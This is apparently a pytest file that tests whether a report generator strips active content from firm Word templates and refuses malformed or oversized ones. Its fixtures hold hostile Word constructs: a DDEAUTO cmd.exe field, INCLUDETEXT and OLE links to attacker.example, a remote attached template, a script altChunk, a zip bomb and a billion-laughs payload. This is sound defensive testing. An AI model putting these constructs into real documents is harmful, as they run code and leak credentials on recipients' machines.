"""A firm's Word template is a document, not a program (security review defects 4, 5, 12, 14).

E02: a template's remote attached template, DDE and INCLUDETEXT fields, external links and
images, OLE objects, macros and altChunks reached the report. D15: even pages of a duplex
template lost DRAFT. E08: a 107 KB template of 8 million paragraphs took 4 GB. E03-E07:
malformed templates gave exit 1. Each fails on the release reviewed.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from .conftest import Run, sizes, write
from .test_docx import MINI_ANSWERS, MINI_ARGS, SOFFICE, converted, firm_template

pytestmark = pytest.mark.usefixtures("in_tmp")

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def write_parts(path: Path, parts: dict[str, bytes]) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    path.write_bytes(buffer.getvalue())
    return path


def add_rels(data: bytes, rels: str) -> bytes:
    return data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")


def hostile(tmp_path: Path) -> Path:
    """A template holding every kind of active content the review found carried over."""
    base = firm_template(tmp_path / "base.docx")
    parts = parts_of(base)
    header = next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))
    fields = (
        f'<w:p xmlns:w="{W}"><w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        f'"/k calc.exe" \'><w:r><w:t>DDE</w:t></w:r></w:fldSimple>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "\\\\\\\\attacker.example\\\\share'
        '\\\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>INCLUDED</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        f'<w:hyperlink r:id="rIdEvil" xmlns:r="{REL}"><w:r><w:t>click here</w:t></w:r>'
        '</w:hyperlink>'
        f'<w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
        f'<o:OLEObject r:id="rIdOle" xmlns:r="{REL}"/></w:object></w:r></w:p>')
    parts[header] = parts[header].replace(b"</w:hdr>", fields.encode() + b"</w:hdr>")
    header_rels = f"word/_rels/{header.split('/')[1]}.rels"
    parts[header_rels] = add_rels(parts.get(header_rels, (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
        b'"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )), (
        f'<Relationship Id="rIdEvil" Type="{REL}/hyperlink" Target="http://evil.example/" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdImg" Type="{REL}/image" '
        'Target="file://attacker.example/share/pixel.png" TargetMode="External"/>'
        f'<Relationship Id="rIdOle" Type="{REL}/oleObject" '
        'Target="file://attacker.example/share/x.bin" TargetMode="External"/>'))
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
        '"http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate" '
        'Target="http://attacker.example/evil.dotm" TargetMode="External"/>'
        '</Relationships>').encode()
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>')
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0MACRO-BYTES"
    parts["word/afchunk.htm"] = b"<html><body><script>alert(1)</script>CHUNK</body></html>"
    parts["word/_rels/document.xml.rels"] = add_rels(parts["word/_rels/document.xml.rels"], (
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdChunk" Type="{REL}/aFChunk" Target="afchunk.htm"/>'))
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:sectPr", b'<w:altChunk r:id="rIdChunk"/><w:sectPr', 1)
    return write_parts(tmp_path / "hostile.docx", parts)


def test_e02_active_content_never_reaches_the_report(run: Run, tmp_path: Path) -> None:
    template = hostile(tmp_path)
    status, _, err = run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "r.docx", "--docx-template",
                         template)
    assert status == 0, err
    parts = parts_of(tmp_path / "r.docx")
    assert not [n for n in parts if n.endswith((".bin", ".htm"))]
    everything = b"".join(parts.values())
    for needle in (b"TargetMode=\"External\"", b"attachedTemplate", b"DDEAUTO", b"INCLUDETEXT",
                   b"altChunk", b"aFChunk", b"oleObject", b"OLEObject", b"vbaProject",
                   b"evil.example", b"attacker.example", b"macroEnabled"):
        assert needle not in everything, needle
    instructions = set(re.findall(rb"<w:instrText[^>]*>\s*(\w+)", everything))
    instructions |= set(re.findall(rb'w:instr="\s*(\w+)', everything))
    assert instructions == {b"TOC", b"PAGE", b"NUMPAGES"}
    header = [p.text for p in Document(str(tmp_path / "r.docx")).sections[0].header.paragraphs]
    assert header[:2] == ["FIRM LETTERHEAD", "DDEINCLUDEDclick here"]  # the text stays, inert


def test_the_contents_field_alone_is_marked_for_updating(run: Run, tmp_path: Path) -> None:
    template = hostile(tmp_path)
    assert run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "r.docx", "--docx-template",
               template)[0] == 0
    document = parts_of(tmp_path / "r.docx")["word/document.xml"]
    assert document.count(b'w:dirty="true"') == 1
    begin = document.index(b'w:dirty="true"')
    assert document[begin:begin + 400].count(b"TOC") == 1


def duplex(tmp_path: Path) -> Path:
    """A duplex house template: even pages print their own header, claiming FINAL."""
    document = Document()
    document.settings.odd_and_even_pages_header_footer = True
    section = document.sections[0]
    section.even_page_header.paragraphs[0].text = "FINAL - APPROVED BY THE PARTNER"
    section.header.paragraphs[0].text = "ODD HEADER"
    document.save(str(tmp_path / "duplex.docx"))
    return tmp_path / "duplex.docx"


def test_d15_even_pages_of_a_duplex_template_say_draft(run: Run, tmp_path: Path) -> None:
    assert run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "r.docx", "--docx-template",
               duplex(tmp_path))[0] == 0
    section = Document(str(tmp_path / "r.docx")).sections[0]
    even = [p.text for p in section.even_page_header.paragraphs]
    assert even == ["FINAL - APPROVED BY THE PARTNER", "Mini Co <script>\tDRAFT\tConfidential"]
    footer = "".join(p.text for p in section.even_page_footer.paragraphs)
    assert footer.startswith("Page ")


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_d15_every_page_laid_out_by_libreoffice_says_draft(run: Run, tmp_path: Path) -> None:
    assert run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "r.docx", "--docx-template",
               duplex(tmp_path))[0] == 0
    pdf = converted(tmp_path / "r.docx", tmp_path)
    assert len(pdf.pages) >= 4
    for number, page in enumerate(pdf.pages, 1):
        assert "DRAFT" in page.extract_text(), number


@pytest.mark.parametrize(("count", "message"), [
    (8_000_000, r"unpacks to 48,\d{3},\d{3} bytes; the limit is 41,943,040"),
    (2_000_000, r"word/document\.xml unpacks to 12,\d{3},\d{3} bytes; the limit for one XML "
                r"part is 4,194,304"),
])
def test_e08_a_zip_bomb_template_is_refused_at_once(run: Run, tmp_path: Path, count: int,
                                                    message: str) -> None:
    parts = parts_of(firm_template(tmp_path / "base.docx"))
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b"<w:body>" + b"<w:p/>" * count, 1)
    bomb = write_parts(tmp_path / "bomb.docx", parts)
    assert bomb.stat().st_size < 200_000
    status, _, err = run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "r.docx", "--docx-template",
                         bomb)
    assert status == 2
    assert re.fullmatch(r"assessor: error: docx template bomb\.docx: " + message + "\n", err), err
    assert not (tmp_path / "r.docx").exists()


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 '
          b'"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><w:styles xmlns:w="' +
          W.encode() + b'">&lol2;</w:styles>')


def malformed(tmp_path: Path, case: str) -> Path:
    parts = parts_of(firm_template(tmp_path / "base.docx"))
    if case == "no Normal style":
        parts["word/styles.xml"] = re.sub(rb'<w:name w:val="Normal"/>', b'<w:name w:val="Body"/>',
                                          parts["word/styles.xml"])
    elif case == "malformed styles.xml":
        parts["word/styles.xml"] = parts["word/styles.xml"][:500]
    elif case == "billion laughs":
        parts["word/styles.xml"] = LAUGHS
    elif case == "truncated zip":
        path = write_parts(tmp_path / "t.docx", parts)
        data = path.read_bytes()
        return write(tmp_path / "t.docx", "") if not data else _bytes(path, data[:len(data) // 2])
    return write_parts(tmp_path / "t.docx", parts)


def _bytes(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(("case", "message"), [
    ("no Normal style", "word/styles.xml has no paragraph style named Normal"),
    ("malformed styles.xml", "word/styles.xml is not well-formed XML"),
    ("billion laughs", "word/styles.xml declares a DTD or entities"),
    ("truncated zip", "not a Word document or template (.docx, .dotx) with styles"),
])
def test_e03_e07_a_malformed_template_exits_2(run: Run, tmp_path: Path, case: str,
                                             message: str) -> None:
    status, _, err = run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "r.docx", "--docx-template",
                         malformed(tmp_path, case))
    assert status == 2, err
    assert err.startswith("assessor: error: docx template t.docx: ")
    assert message in err
    assert not (tmp_path / "r.docx").exists()


def repaired(tmp_path: Path, case: str) -> Path:
    parts = parts_of(firm_template(tmp_path / "base.docx"))
    if case == "docm content type":
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml")
    elif case == "missing header part":
        header = next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))
        del parts[header]
    elif case == "style without a name or id":
        parts["word/styles.xml"] = parts["word/styles.xml"].replace(
            b"</w:styles>", b'<w:style w:type="paragraph"><w:pPr/></w:style>'
                            b'<w:style w:type="paragraph" w:styleId="X"><w:name/></w:style>'
                            b"</w:styles>")
    return write_parts(tmp_path / "t.docx", parts)


@pytest.mark.parametrize("case", ["docm content type", "missing header part",
                                  "style without a name or id"])
def test_e03_e07_what_cleaning_repairs_renders(run: Run, tmp_path: Path, case: str) -> None:
    status, _, err = run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "r.docx", "--docx-template",
                         repaired(tmp_path, case))
    assert status == 0, err
    assert Document(str(tmp_path / "r.docx")).paragraphs


@pytest.mark.parametrize("examples", sizes(8, 30))
def test_property_any_damaged_template_gives_a_report_or_exit_2(
        run: Run, tmp_path: Path, examples: int) -> None:
    """Any part cut short or spliced with junk: a report, or a one-line refusal; never a bug."""
    @settings(max_examples=examples, deadline=None)
    @given(part=st.sampled_from(["word/styles.xml", "word/settings.xml", "word/document.xml",
                                 "[Content_Types].xml", "word/_rels/document.xml.rels",
                                 "_rels/.rels"]),
           cut=st.integers(min_value=0, max_value=4000),
           junk=st.binary(max_size=40))
    def check(part: str, cut: int, junk: bytes) -> None:
        base = tmp_path / "base.docx"
        if not base.exists():
            firm_template(base)
        parts = parts_of(base)
        data = parts[part]
        parts[part] = data[:cut] + junk + data[cut + len(junk):]
        template = write_parts(tmp_path / "p.docx", parts)
        status, _, err = run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "p-out.docx", "--force",
                             "--docx-template", template)
        assert status in (0, 2), err
        if status == 2:
            assert err.startswith("assessor: error: ") and err.count("\n") == 1

    check()


def test_a_damaged_relationship_type_is_not_read_by_its_last_word(run: Run,
                                                                   tmp_path: Path) -> None:
    """Found by the property test: a styles relationship whose type lost its first letter."""
    base = firm_template(tmp_path / "base.docx")
    parts = parts_of(base)
    rels = "word/_rels/document.xml.rels"
    parts[rels] = parts[rels].replace(b'Type="http://schemas.openxmlformats.org/officeDocument/'
                                      b'2006/relationships/styles"',
                                      b'Type="\tttp://schemas.openxmlformats.org/officeDocument/'
                                      b'2006/relationships/styles"', 1)
    template = write_parts(tmp_path / "p.docx", parts)
    status, _, err = run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "p-out.docx",
                         "--docx-template", template)
    assert status == 2
    assert err == "assessor: error: docx template p.docx: not a Word document or template " \
                  "(.docx, .dotx) with styles\n"
    assert not (tmp_path / "p-out.docx").exists()


def test_a_damaged_relationship_namespace_drops_the_header_reference(run: Run,
                                                                      tmp_path: Path) -> None:
    """Found by the property test: xmlns:r damaged, so headerReference has no r:id."""
    parts = parts_of(firm_template(tmp_path / "base.docx"))
    document = "word/document.xml"
    parts[document] = parts[document].replace(
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"',
        b'xmlns:r="http\'//schemas.openxmlformats.org/officeDocument/2006/relationships"', 1)
    template = write_parts(tmp_path / "p.docx", parts)
    status, _, err = run("run", *MINI_ARGS, MINI_ANSWERS, "-o", "p-out.docx",
                         "--docx-template", template)
    assert status == 0, err
    assert Document(str(tmp_path / "p-out.docx")).paragraphs
